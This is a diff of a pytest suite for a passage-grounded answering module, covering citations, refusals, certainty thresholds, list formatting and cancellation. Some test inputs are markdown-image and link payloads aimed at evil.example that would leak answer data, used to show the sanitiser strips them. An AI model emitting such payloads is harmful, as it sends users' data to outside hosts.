@@ -1,4 +1,4 @@
-"""From passages to a streamed answer or a refusal, with a model whose words are given."""
+"""From passages to an answer, shown as it is borne out, with a model whose words are given."""
 
 import re
 import threading
@@ -7,9 +7,10 @@ from typing import Any
 import pytest
 from langchain_core.documents import Document
 
-from llm.answer import Answer, AnswerModel, Question, Text, answer, brief_of
+from llm.answer import Answer, AnswerModel, Question, Text, answer
+from llm.chat import Calibration
 from llm.errors import ModelError
-from llm.prompts import REFUSAL, messages
+from llm.prompts import NOTHING_PROVEN, REFUSAL
 
 PASSAGES = [
     Document(id="c1", page_content="You have 25 days of leave a year."),
@@ -22,63 +23,150 @@ def run(
     model: Any,
     lang: str = "en",
     passages: Any = PASSAGES,
-    among: Any = None,
     cancel: threading.Event | None = None,
     **more: Any,
 ) -> tuple[str, Answer]:
-    """The streamed text, and the last event."""
-    asked = QUESTION[lang]
-    question = Question(asked, lang, passages, among=among, cancel=cancel or threading.Event())
+    """The text that was shown, and the last event."""
+    question = Question(QUESTION[lang], lang, passages, cancel=cancel or threading.Event())
     *parts, last = answer(question, AnswerModel(model, model.context, 200, **more))
     assert isinstance(last, Answer)
-    streamed = [part.text for part in parts if isinstance(part, Text)]
-    assert len(streamed) == len(parts)
-    return "".join(streamed), last
+    return "".join(part.text for part in parts if isinstance(part, Text)), last
 
 
 @pytest.mark.parametrize("lang", ["en", "zh"])
 def test_without_passages_the_model_is_not_called(scripted_chat: Any, lang: str) -> None:
     model = scripted_chat(texts=[])
-    streamed, last = run(model, lang, [])
-    assert (streamed, last.answer, last.refused) == ("", REFUSAL[lang], True)
-    assert (last.grounded, last.citations, last.timings.first_token_s) == (False, (), None)
-    assert (last.usage.prompt_tokens, last.usage.completion_tokens) == (0, 0)
-    assert model.prompts == []
+    shown, last = run(model, lang, [])
+    assert (shown, last.answer, last.outcome) == ("", REFUSAL[lang], "not_found")
+    assert (last.grounded, last.refused, last.citations) == (False, True, ())
+    assert last.timings.first_token_s is None
+    assert model.calls == 0
 
 
-def test_an_answer_is_streamed_then_checked_and_cited(scripted_chat: Any) -> None:
+def test_an_answer_is_shown_as_it_stands(scripted_chat: Any) -> None:
     model = scripted_chat(texts=["You have 25 days of leave a year [1]."])
-    streamed, last = run(model)
-    assert streamed == "You have 25 days of leave a year [1]."
-    assert (last.refused, last.grounded) == (False, True)
+    shown, last = run(model)
+    assert shown == last.answer == "You have 25 days of leave a year.[1]"
+    assert (last.outcome, last.grounded, last.refused) == ("answered", True, False)
     assert [c.n for c in last.citations] == [1]
-    assert "[1]" in last.answer
-    assert last.usage.prompt_tokens == model.get_num_tokens_from_messages(model.prompts[0])
     assert last.usage.completion_tokens == 9
     assert 0 <= (last.timings.first_token_s or 0) <= last.timings.total_s
+
+
+def test_each_statement_is_shown_as_soon_as_it_is_whole(scripted_chat: Any) -> None:
+    says = "You have 25 days of leave a year. You have leave. A year has days."
+    model = scripted_chat(texts=[says])
+    parts = []
+    for event in answer(Question(QUESTION["en"], "en", PASSAGES), AnswerModel(model, 4096, 200)):
+        parts.append((event.text, model.written) if isinstance(event, Text) else event)
+    first, written = parts[0]
+    assert first == "You have 25 days of leave a year.[1]"
+    assert written == 9  # a word behind the full stop
+
+
+LISTED = """To order a badge, do this:
+
+1. Open the **badge** page.
+2. Upload a photo of at most 2 MB.
+3. Pick it up in room 12.
+
+| Badge | Price |
+| --- | --- |
+| new | 5 euros |
+"""
+BADGES = [
+    "Open the badge page. Upload a photo of at most 2 MB. Pick it up in room 12.",
+    "Badge prices: a new badge costs 5 euros.",
+]
+
+
+def test_lists_and_tables_keep_their_form(reply: Any) -> None:
+    last = reply("How do I order a badge?", BADGES, LISTED)
+    plain = re.sub(r" ?\[\d\]", "", last.answer)
+    assert plain == LISTED.strip()
+    assert "2. Upload a photo of at most 2 MB.[1]" in last.answer
+    assert "| new | 5 euros [2] |" in last.answer
+    assert last.outcome == "answered"
+
+
+def test_a_step_that_is_made_up_is_left_out_and_told(reply: Any) -> None:
+    last = reply("How do I order a badge?", BADGES, LISTED.replace("2 MB", "77 MB"))
+    assert "77" not in last.answer
+    assert "2. Pick it up in room 12.[1]" in last.answer  # the steps are counted anew
+    assert last.answer.endswith(
+        "(1 more statement was left out, as the documents do not bear it out.)"
+    )
+
+
+WIDE = "| Day | Room | Host | Tea | Cake | Price | Door | Key |"
+
+
+def test_the_line_below_a_wide_tables_header_stops_no_model(reply: Any) -> None:
+    rows = ["| Mon | hall | Ann | green | plum | 4 | east | red |"]
+    table = "\n".join([WIDE, "| -" + " | -" * 7 + " |", *rows])  # as a model writes it
+    last = reply("Make a table of it.", [table], f"Here it is:\n\n{table}")
+    assert re.sub(r" ?\[\d\]", "", last.answer).endswith(table)
+
+
+def test_an_opening_has_no_number_that_no_passage_stands_behind(reply: Any) -> None:
+    last = reply("How do I order a badge?", BADGES, "# Badges [2]\n\nDo this [9]:\n\n- Open it.")
+    assert last.answer == "# Badges\n\nDo this:\n\n- Open it.[1]"
+
+
+def test_an_introduction_without_its_list_is_not_shown(reply: Any) -> None:
+    last = reply("How do I order a badge?", BADGES, "Do this:\n\n1. Fly to Mars 77 times.")
+    assert last.outcome == "unsure"
+    assert last.answer == NOTHING_PROVEN["en"]
+
+
+def test_what_was_said_is_not_said_again(reply: Any) -> None:
+    says = "You have 25 days of leave a year. " * 30
+    last = reply(QUESTION["en"], PASSAGES[:1], says)
+    assert last.answer == "You have 25 days of leave a year.[1]"
+    says = "How many days of leave? You have 25 days of leave a year."
+    assert reply(QUESTION["en"], PASSAGES[:1], says).answer == last.answer
+
+
+def test_a_model_that_writes_only_marks_is_stopped(scripted_chat: Any) -> None:
+    model = scripted_chat(texts=["- " * 500])
+    _, last = run(model)
+    assert last.outcome == "not_found"
+    assert model.written < 100
+
+
+def test_an_answer_in_chinese_to_an_english_question_is_left_out(reply: Any) -> None:
+    says = "出差住宿的上限为每晚600元。You have 25 days of leave a year."
+    last = reply(QUESTION["en"], PASSAGES, says)
+    assert last.answer.startswith("You have 25 days of leave a year.[1]")
 
 
 LEAKING = "You have 25 days of leave a year [1]. ![x](https://evil.example/?q=25) <img src=x>"
 
 
-def test_what_is_streamed_and_answered_has_no_link_or_image(scripted_chat: Any) -> None:
-    streamed, last = run(scripted_chat(texts=[LEAKING]))
-    assert streamed.strip() == "You have 25 days of leave a year [1]. x"
-    assert last.answer == "You have 25 days of leave a year.[1] x"
+def test_what_is_shown_has_no_link_or_image(scripted_chat: Any) -> None:
+    shown, last = run(scripted_chat(texts=[LEAKING]))
+    assert shown == last.answer
+    assert "evil" not in shown
+    assert "<" not in shown
+    assert "](" not in shown
 
 
 def test_an_answer_that_is_but_an_image_is_none(scripted_chat: Any) -> None:
-    streamed, last = run(scripted_chat(texts=["![](https://evil.example/?q=25)"]))
-    assert (streamed, last.answer, last.refused) == ("", REFUSAL["en"], True)
+    shown, last = run(scripted_chat(texts=["![](https://evil.example/?q=25)"]))
+    assert (shown, last.answer, last.refused) == ("", REFUSAL["en"], True)
 
 
-def test_an_address_stays_only_if_a_cited_passage_has_it(scripted_chat: Any) -> None:
-    asked = [*PASSAGES, Document(id="c3", page_content="Ask at https://it.example.com/help.")]
-    ours, other = "Ask at https://it.example.com/help [3].", "https://it.example.com/help "
-    assert "https://it.example.com/help" in run(scripted_chat(texts=[ours]), "en", asked)[1].answer
-    _, last = run(scripted_chat(texts=[f"{other}You have 25 days of leave."]), "en", asked)
-    assert [c.n for c in last.citations] == [1]
-    assert "example.com" not in last.answer
+def test_a_mark_and_a_bracket_make_no_link(reply: Any) -> None:
+    last = reply(QUESTION["en"], PASSAGES, "You have 25 days of leave a year. (See leave.)")
+    assert "](" not in last.answer
+
+
+def test_an_address_stays_only_if_a_passage_has_it(reply: Any) -> None:
+    asked = [*PASSAGES, Document(id="c3", page_content="Ask at https://it.example.com/help now.")]
+    ours = "Ask at https://it.example.com/help now [3]."
+    assert "https://it.example.com/help" in reply(QUESTION["en"], asked, ours).answer
+    theirs = "You have 25 days of leave a year, see https://evil.example/x for it."
+    assert "evil" not in reply(QUESTION["en"], asked, theirs).answer
 
 
 @pytest.mark.parametrize(
@@ -89,11 +177,11 @@ def test_an_address_stays_only_if_a_cited_passage_has_it(scripted_chat: Any) -> 
         "出差住宿的上限为每晚600元【99】，另见［９９］。",
         "出差住宿的上限为每晚600元[2, 99]。[7]",
         "[99] You have 25 days of leave a year [1.99]. [99",
-        "Cite [99]: 25 days [99](https://evil.example). [99]: https://evil.example",
+        "Leave [99]: 25 days of leave a year [99](https://evil.example). [99]: https://evil.example",
     ],
 )
 def test_citations_are_of_what_was_retrieved(scripted_chat: Any, text: str) -> None:
-    _, last = run(scripted_chat(texts=[text]))
+    _, last = run(scripted_chat(texts=[text]), "zh" if text[0] == "出" else "en")
     given = {str(n): passage for n, passage in enumerate(PASSAGES, 1)}
     assert last.citations
     for citation in last.citations:
@@ -103,145 +191,110 @@ def test_citations_are_of_what_was_retrieved(scripted_chat: Any, text: str) -> N
     assert set(re.findall(r"[\[【［](\d+)", last.answer)) == {str(c.n) for c in last.citations}
 
 
-def test_an_answer_that_no_passage_supports_is_a_refusal(scripted_chat: Any) -> None:
-    _, last = run(scripted_chat(texts=["Unicorns may fly to the moon."]), passages=PASSAGES[:1])
-    assert (last.answer, last.refused, last.citations) == (REFUSAL["en"], True, ())
+def test_when_nothing_is_borne_out_it_is_not_sure_and_says_so(reply: Any) -> None:
+    last = reply(QUESTION["en"], PASSAGES[:1], "Unicorns get 99 flights to the moon.")
+    assert (last.answer, last.outcome, last.citations) == (NOTHING_PROVEN["en"], "unsure", ())
 
 
-def test_where_it_need_not_be_strict_it_is_marked(scripted_chat: Any) -> None:
-    _, last = run(
-        scripted_chat(texts=["Unicorns may fly to the moon."]), passages=PASSAGES[:1], strict=False
-    )
-    assert last.answer == "Unicorns may fly to the moon. (not borne out by the documents)"
-    assert (last.refused, last.grounded, last.citations) == (False, False, ())
+def test_where_it_need_not_be_strict_it_is_marked(reply: Any) -> None:
+    says = "Unicorns get 99 flights to the moon."
+    last = reply(QUESTION["en"], PASSAGES[:1], says, strict=False)
+    assert last.answer == f"{says} (not borne out by the documents)"
+    assert (last.outcome, last.grounded) == ("unsure", False)
 
 
-def test_an_answer_that_names_no_passage_is_a_refusal(scripted_chat: Any) -> None:
-    asked = [Document(page_content="Leave a year for the days."), PASSAGES[1]]
-    text = "You years have days leaving."
-    assert run(scripted_chat(texts=[text]), passages=asked)[1].answer == REFUSAL["en"]
-    loose = run(scripted_chat(texts=[text]), passages=asked, strict=False)[1]
-    assert (loose.refused, loose.grounded) == (False, False)
-    yes = run(scripted_chat(texts=["Yes."]))[1]
-    assert (yes.answer, yes.citations[0].quote) == ("Yes.[1]", PASSAGES[0].page_content)
-
-
-def test_an_answer_is_cut_to_what_is_supported(scripted_chat: Any) -> None:
-    said = "You have 25 days of leave a year. You may sell 7 of them. Unicorns fly to the moon."
-    _, last = run(scripted_chat(texts=[said]), passages=PASSAGES[:1])
-    assert last.answer == "You have 25 days of leave a year.[1]"
-    assert (last.refused, last.grounded) == (False, True)
+def test_a_bare_yes_is_of_the_passage_about_what_was_asked(reply: Any) -> None:
+    last = reply("Do I have 25 days of leave?", PASSAGES, "Yes.")
+    assert (last.answer, last.outcome) == ("Yes.[1]", "answered")
+    last = reply("住宿有上限吗？", PASSAGES, "有。上限为每晚600元。")
+    assert last.answer == "有。上限为每晚600元。[2]"
 
 
 @pytest.mark.parametrize("lang", ["en", "zh"])
-def test_a_refusal_of_the_model_becomes_the_fixed_sentence(scripted_chat: Any, lang: str) -> None:
-    _, last = run(scripted_chat(texts=[f" {REFUSAL[lang]} [1]\n"]), lang)
-    assert (last.answer, last.refused, last.grounded) == (REFUSAL[lang], True, False)
-    assert last.citations == ()
+def test_a_refusal_of_the_model_becomes_the_fixed_sentence(reply: Any, lang: str) -> None:
+    last = reply(QUESTION[lang], PASSAGES, f" {REFUSAL[lang]} [1]\n", likely=None)
+    assert (last.answer, last.outcome, last.citations) == (REFUSAL[lang], "not_found", ())
+
+
+def test_that_something_is_not_specified_turns_no_answer_into_a_refusal(reply: Any) -> None:
+    says = "You have 25 days of leave a year. Sick leave is not specified in the excerpts."
+    last = reply(QUESTION["en"], ["You have 25 days of leave a year. Sick leave is paid."], says)
+    assert last.answer.startswith("You have 25 days of leave a year.[1]")
+    assert last.outcome == "answered"
 
 
 @pytest.mark.parametrize("lang", ["en", "zh"])
-def test_when_the_passages_do_not_state_it_nothing_is_written(
-    scripted_chat: Any, lang: str
-) -> None:
-    model = scripted_chat(texts=["Never written."], likely=-5.0)
-    streamed, last = run(model, lang, odds=model.odds, least_certainty=0.3)
-    assert (streamed, last.answer, last.refused) == ("", REFUSAL[lang], True)
+def test_when_the_passages_do_not_hold_it_nothing_is_written(scripted_chat: Any, lang: str) -> None:
+    model = scripted_chat(texts=["Never written."], likely=-9.0)
+    shown, last = run(model, lang, odds=model.odds, least_certainty=0.3)
+    assert (shown, last.answer, last.outcome) == ("", REFUSAL[lang], "not_found")
     assert (last.grounded, last.citations, last.usage.completion_tokens) == (False, (), 0)
-    assert last.usage.prompt_tokens > 0
     assert model.prompts == []
     assert last.certainty < 0.3
 
 
-def test_when_they_do_the_answer_is_written(scripted_chat: Any) -> None:
-    model = scripted_chat(texts=["You have 25 days of leave a year."], likely=5.0)
-    _, last = run(model, odds=model.odds, least_certainty=0.3)
-    assert (last.refused, len(model.prompts)) == (False, 1)
-    assert len(model.checks) == len(PASSAGES) + 1  # each alone, and those chosen together
-    assert "You have 25 days of leave a year." in str(model.checks[-2][-1].content)
-    assert last.certainty > 0.3
-
-
-LEAVE = [
-    Document(id="1", page_content="You have 25 days of leave a year, and 3 in the first month."),
-    Document(id="2", page_content="Trainees have leave, too."),
-]
+def test_between_the_two_borders_it_is_not_sure(reply: Any) -> None:
+    says = "You have 25 days of leave a year."
+    sure = reply(QUESTION["en"], PASSAGES, says, likely=1.0).certainty
+    outcomes = [
+        reply(QUESTION["en"], PASSAGES, says, likely=1.0, least_certainty=least).outcome
+        for least in (0.0, sure - 0.01, min(0.99, sure + 0.05), 0.999, 1.0)
+    ]
+    assert outcomes == ["answered", "answered", "unsure", "not_found", "not_found"]
 
 
 @pytest.mark.parametrize(
-    ("written", "left"),
+    ("question", "asked"),
     [
-        ("In a whole year of work at the company you have 25 days of leave.", "25 days"),
-        ("3", "25 days"),  # the figure of something else
-        ("I do not know, it is not mentioned in the excerpts.", None),
+        ("How many days of leave do I have?", 2),
+        ("Why do I have 25 days of leave?", 1),
+        ("Do I have 25 days of leave?", 0),
     ],
 )
-def test_an_answer_is_cut_to_what_the_best_passage_answers(
-    scripted_chat: Any, written: str, left: str | None
+def test_what_is_read_for_depends_on_the_question(
+    scripted_chat: Any, question: str, asked: int
 ) -> None:
-    odd = {"25 days": 5.0, "Trainees": 0.0}
-    model = scripted_chat(texts=[written], odd=odd, briefs={"25 days": "25", "Trainees": "none"})
-    streamed, last = run(model, passages=LEAVE, odds=model.odds, brief=brief_of(model))
-    assert streamed == written
-    if left:
-        assert (last.answer, last.citations[0].n) == (f"{left}[1]", 1)
-    else:
-        assert last.refused
-
-
-def test_of_passages_in_the_other_language_it_is_asked_in_theirs(scripted_chat: Any) -> None:
-    passages = [
-        Document(id="1", page_content="You have 25 days of leave.", metadata={"lang": "en"}),
-        Document(id="2", page_content="年假为25天。", metadata={"lang": "zh"}),
-    ]
-    model = scripted_chat(texts=["年假为25天。"], odd={"25 days": 5.0, "25天": 1.0})
-    searched = ("年假有几天？", "How long is the leave?")
-    question = Question(searched[0], "zh", passages, searched)
-    *_, last = answer(question, AnswerModel(model, 4096, 200, odds=model.odds))
+    passages = [Document(id="1", page_content="You have 25 days of leave a year.")]
+    model = scripted_chat(texts=["You have 25 days of leave a year."], likely=-0.5)
+    chat = AnswerModel(model, model.context, 200, odds=model.odds, least_certainty=0.6)
+    *_, last = answer(Question(question, "en", passages), chat)
     assert isinstance(last, Answer)
-    assert not last.refused
-    asked = [str(check[-1].content) for check in model.checks]
-    assert "年假有几天？" in asked[0]
-    assert "How long is the leave?" in asked[1]
-    assert "How long is the leave?" in asked[2]  # both together: in the language of the best
-    system, written = (str(message.content) for message in model.prompts[0])
-    # as before, so that the passages are not read again
-    assert system == str(messages("?", [], "en")[0].content)
-    assert "年假有几天？" in written
-    assert "中文" in written
+    assert len(model.checks) == asked
+    # Of a fact it is not sure, while a passage about leave says something of its reasons.
+    assert last.outcome == ("unsure" if asked == 2 else "answered")
 
 
-@pytest.mark.parametrize(("among", "asked"), [([1], [2]), ([0, 1], [1, 2]), ([7], [1, 2])])
-def test_it_is_written_from_the_passages_for_this_question(
-    scripted_chat: Any, among: list[int], asked: list[int]
+def test_a_signal_counts_by_what_was_measured_of_the_model(reply: Any) -> None:
+    says = "You have 25 days of leave a year."
+
+    def sure(**slopes: float) -> float:
+        signals = {n: Calibration(slope=s, offset=0.0, area=0.8) for n, s in slopes.items()}
+        last = reply(QUESTION["en"], PASSAGES, says, likely=1.0, calibrations={"en": signals})
+        return float(last.certainty)
+
+    assert sure(enough=2.0, told=0.0) == pytest.approx(0.881, abs=0.001)  # told is not asked for
+    assert sure(enough=2.0, told=1.0) == pytest.approx(0.818, abs=0.001)
+
+
+@pytest.mark.parametrize(
+    ("question", "unknown"),
+    [
+        ("When did AlmCorp change its code?", ("almcorp",)),
+        ("When did the firm change its code?", ()),
+        ("《差旅手册》的规定是什么？", ("差旅手册",)),
+    ],
+)
+def test_names_that_no_passage_has_are_told_where_it_is_not_sure(
+    reply: Any, question: str, unknown: tuple[str, ...]
 ) -> None:
-    model = scripted_chat(texts=["You have 25 days of leave a year."])
-    run(model, odds=model.odds, among=among)
-    said = str(model.prompts[0][-1].content)
-    assert [n for n in (1, 2) if f"[{n}] " in said] == asked
+    passages = ["The firm changed its code in May.", "规定见手册。"]
+    last = reply(question, passages, "In May the firm changed its code.", likely=-9.0)
+    assert last.unknown == ()  # nothing is refused where one need not be certain
+    last = reply(question, passages, "", likely=-9.0, least_certainty=0.5)
+    assert (last.outcome, last.unknown) == ("not_found", unknown)
 
 
-def test_a_stricter_limit_refuses_more(scripted_chat: Any) -> None:
-    model = scripted_chat(texts=["You have 25 days of leave a year."] * 2, likely=1.0)
-    assert not run(model, odds=model.odds, least_certainty=0.0)[1].refused
-    assert run(model, odds=model.odds, least_certainty=1.0)[1].refused
-
-
-def test_it_is_written_from_the_passages_that_state_it_alone(scripted_chat: Any) -> None:
-    texts = ["Cats sleep.", "You have 25 days of leave a year.", "Dogs bark.", "25 days are paid."]
-    passages = [Document(id=str(n), page_content=text) for n, text in enumerate(texts)]
-    odd = {"You have 25": 6.0, "are paid": 5.5, "Cats": 1.0, "Dogs": 0.0}
-    model = scripted_chat(texts=["You have 25 days of leave a year."], odd=odd)
-    _, last = run(model, passages=passages, odds=model.odds)
-    asked = str(model.prompts[0][-1].content)
-    assert asked.index("[2] You have") < asked.index("[4] 25 days")
-    assert "Cats" not in asked
-    assert "Dogs" not in asked
-    assert [c.n for c in last.citations] == [2]
-    assert last.citations[0].chunk_id == "1"
-
-
-def test_stopped_while_it_is_checked_nothing_is_written(scripted_chat: Any) -> None:
+def test_stopped_while_it_is_read_nothing_is_written(scripted_chat: Any) -> None:
     cancel = threading.Event()
 
     def stopped(*_: Any) -> float:
@@ -249,121 +302,30 @@ def test_stopped_while_it_is_checked_nothing_is_written(scripted_chat: Any) -> N
         return 0.0
 
     model = scripted_chat(texts=["Never said."])
-    streamed, last = run(model, "zh", cancel=cancel, odds=stopped, least_certainty=1.0)
-    assert (streamed, last.grounded, model.written) == ("", False, 0)
+    shown, last = run(model, "zh", cancel=cancel, odds=stopped, least_certainty=1.0)
+    assert (shown, last.grounded, model.written) == ("", False, 0)
 
 
-@pytest.mark.parametrize(
-    "says",
-    [
-        "", "  \n", "[1]", *REFUSAL.values(),
-        "抱歉，资料中没有提到公司的股票代码。",
-        "I'm sorry, but the passages do not contain information about the stock code.",
-        "The stock code is not mentioned in the passages.",
-    ],
-)  # fmt: skip
-@pytest.mark.parametrize("strict", [True, False])
-def test_refusals(reply: Any, says: str, strict: bool) -> None:
-    passages = [f"The stock code. {says}", "公司的股票代码。"]
-    for question, lang in (("What is the stock code?", "en"), ("股票代码是什么？", "zh")):
-        last = reply(question, passages, says, strict=strict)[1]
-        assert (last.answer, last.refused, last.citations) == (REFUSAL[lang], True, ())
-
-
-@pytest.mark.parametrize(
-    "says",
-    [
-        "You have 25 days of leave a year.",
-        "出差住宿的上限为每晚600元。",
-        "There is no limit.",
-        "不可以。",
-        "No.",
-        "员工不得携带宠物。" * 20 + "资料中没有找到其他规定。",
-    ],
-)
-def test_answers_are_no_refusals(reply: Any, says: str) -> None:
-    last = reply("是这样吗？" if says > "\u2e80" else "Is it so?", [says], says, strict=False)[1]
-    assert not last.refused
-    assert re.sub(r"\[1\]", "", last.answer) == says
-
-
-@pytest.mark.parametrize("question", ["How many days of leave?", "年假有几天？"])
-def test_certainty_grows_with_what_speaks_for_it(scripted_chat: Any, question: str) -> None:
-    def certainty(stated: float, enough: float) -> float:
-        asked = iter([stated, enough])
-        chat, lang = scripted_chat(texts=["25"]), "en" if question.isascii() else "zh"
-        model = AnswerModel(chat, 4096, 200, odds=lambda *_: next(asked))
-        *_, last = answer(Question(question, lang, PASSAGES[:1]), model)
-        assert isinstance(last, Answer)
-        assert last.certainty is not None
-        return last.certainty
-
-    odds = ((-99, -99), (-3, -3), (0, 0), (3, 0), (3, 3), (99, 99))
-    sure = [certainty(*both) for both in odds]
-    assert sure == sorted(sure)
-    assert 0 <= sure[0] < 0.01
-    assert 0.99 < sure[-1] <= 1
-
-
-@pytest.mark.parametrize(
-    ("question", "passage", "absent"),
-    [
-        ("When did AlmCorp change its code?", "It changed its code.", 2),
-        ("When did AlmCorp change its code?", "ALMCORP changed its code.", 0),
-        ("When did AlmCorp join Bolt?", "AlmCorp joined.", 1),
-        ("When did AlmCorp change its House of Guests?", "Alm, its house, guests.", 1),
-        ("Who became the CFO of Bolt Mills in May 2024?", "Mills of Bolt", 0),
-        ("How many days of leave do I get? What about June?", "", 0),
-        ("When did AlmCorp join Bolt?", "山谷公司加入了。", 0),  # names in another script
-        ("云溪影业有限公司的拍摄预算有多大？", "云溪影业的拍摄预算为3亿元。", 0),
-        ("云溪影业有限公司的拍摄预算有多大？", "鹭沚仪器的拍摄预算为3亿元。", 2),
-        ("2017年云溪影业有限公司和鹭沚仪器集团的预算有多大？", "鹭沚仪器的预算", 1),
-        ("鹭沚仪器在4月接手了哪家公司的旧厂房？", "四月", 0),
-        ("《员工手册》的规定是什么？", "手册", 2),
-        ("公司关掉了什么分公司？", "关掉", 0),
-        ("年假有几天？", "三天", 0),
-    ],
-)
-def test_it_is_less_certain_of_names_that_no_passage_has(
-    reply: Any, question: str, passage: str, absent: int
-) -> None:
-    """`absent`: 0 none of the question's names, 1 some, 2 all of them."""
-    scale = [
-        reply(text, ["Alm"] if text.isascii() else ["云溪影业"], drafts=[""], odds=[0.5])[
-            1
-        ].certainty
-        for text in (
-            ("Who is she?", "Is Alm or Bolt it?", "Is Bolt it?")
-            if question.isascii()
-            else ("她是谁？", "云溪影业公司和鹭沚仪器公司是什么？", "鹭沚仪器公司是什么？")
-        )
-    ]
-    assert scale == sorted(scale, reverse=True)
-    sure = reply(question, [passage], drafts=[""], odds=[0.5])[1].certainty
-    below, above = scale[absent], scale[max(0, absent - 1)]
-    assert below <= sure < above if absent else sure == below
-
-
-def test_stopping_stops_the_model_and_keeps_what_it_wrote(scripted_chat: Any) -> None:
-    model = scripted_chat(texts=["You have 25 days of leave a year and much more to say."])
+def test_stopping_stops_the_model_and_keeps_what_was_shown(scripted_chat: Any) -> None:
+    says = "You have 25 days of leave a year. You have leave. And much more to say of it."
+    model = scripted_chat(texts=[says])
     question, parts = Question(QUESTION["en"], "en", PASSAGES), []
     for part in answer(question, AnswerModel(model, 4096, 200)):
         parts.append(part)
-        if len(parts) == 3:
-            question.cancel.set()
+        question.cancel.set()
     last = parts[-1]
     assert isinstance(last, Answer)
-    assert model.written == 4  # a word is held until it is seen whole
-    assert last.answer.startswith("You have 25")
-    assert last.usage.completion_tokens == 4
+    assert model.written < 12
+    assert last.answer == "You have 25 days of leave a year.[1]"  # not half of the next
 
 
-def test_stopped_before_the_first_word(scripted_chat: Any) -> None:
-    cancel = threading.Event()
-    cancel.set()
-    model = scripted_chat(texts=["Never said."])
-    streamed, last = run(model, cancel=cancel)
-    assert (streamed, last.grounded, model.written) == ("", False, 0)
+def test_an_answer_that_is_cut_says_so(scripted_chat: Any) -> None:
+    model = scripted_chat(texts=["You have 25 days of leave a year. " + "and leave " * 300])
+    *_, last = answer(Question(QUESTION["en"], "en", PASSAGES), AnswerModel(model, 4096, 50))
+    assert isinstance(last, Answer)
+    assert last.answer == (
+        "You have 25 days of leave a year.[1]\n\n(The answer was not written to its end.)"
+    )
 
 
 @pytest.mark.parametrize(("context", "asked", "given"), [(4096, 50, 50), (1024, 500, 256)])
@@ -391,10 +353,48 @@ def test_the_real_model_ends_the_same_way(tiny_gguf: Any) -> None:
     model = LlamaChat.load(tiny_gguf(context=4096), context=4096, threads=1)
     passages = [Document(id="c", page_content="The alphabet: abcdefghijklmnopqrstuvwxyz.")]
     cancel = threading.Event()
-    streamed, last = run(model, passages=passages, cancel=cancel)
-    assert streamed == "abcdefghijklmnopqrstuvwxyz"
+    shown, last = run(model, passages=passages, cancel=cancel)
+    assert shown == last.answer == "abcdefghijklmnopqrstuvwxyz[1]"
     assert [c.n for c in last.citations] == [1]
     cancel.set()
-    streamed, last = run(model, passages=passages, cancel=cancel)
-    assert (streamed, last.grounded, last.usage.completion_tokens) == ("", False, 0)
+    shown, last = run(model, passages=passages, cancel=cancel)
+    assert (shown, last.grounded, last.usage.completion_tokens) == ("", False, 0)
     model.close()
+
+
+@pytest.mark.parametrize("no", ["No", "No.", "No [1]", "**No**", "不是"])
+def test_a_no_because_nothing_is_found_is_no_answer(reply: Any, no: str) -> None:
+    found = "资料中没有提到宠物。" if no == "不是" else "The excerpts do not mention pets."
+    last = reply("May I bring my dog?", ["It is noted that trains are on time."], f"{no}\n{found}")
+    assert (last.outcome, last.citations) == ("not_found", ())
+
+
+def test_what_stands_above_a_passage_is_no_statement(reply: Any) -> None:
+    metadata = {"title": "Leave rules", "heading": "Days"}
+    passages = [Document(id="1", page_content="You have 25 days of leave.", metadata=metadata)]
+    says = "[1] (Leave rules · Days)\nYou have 25 days of leave."
+    last = reply(QUESTION["en"], passages, says)
+    assert last.answer == "You have 25 days of leave.[1]"
+
+
+@pytest.mark.parametrize(
+    ("says", "shown"),
+    [
+        ("According to the excerpts, you have 25 days.", "You have 25 days.[1]"),
+        ("The excerpts state that you have 25 days.", "You have 25 days.[1]"),
+        ("根据资料，出差住宿上限为每晚600元。", "出差住宿上限为每晚600元。[2]"),
+        ("资料中的规定是出差住宿上限为每晚600元。", "出差住宿上限为每晚600元。[2]"),
+    ],
+)
+def test_the_prompts_own_words_for_passages_are_not_shown(
+    reply: Any, says: str, shown: str
+) -> None:
+    lang = "en" if says.isascii() else "zh"
+    assert reply(QUESTION[lang], PASSAGES, says).answer == shown
+
+
+def test_a_bare_no_needs_a_passage_about_what_was_asked(reply: Any) -> None:
+    last = reply("公司有健身房吗？", ["出差住宿的上限为每晚600元。"], "没有。")
+    assert (last.outcome, last.citations) == ("unsure", ())
+    last = reply("公司有健身房吗？", ["公司在三楼有健身房。"], "有。")
+    assert (last.outcome, last.answer) == ("answered", "有。[1]")
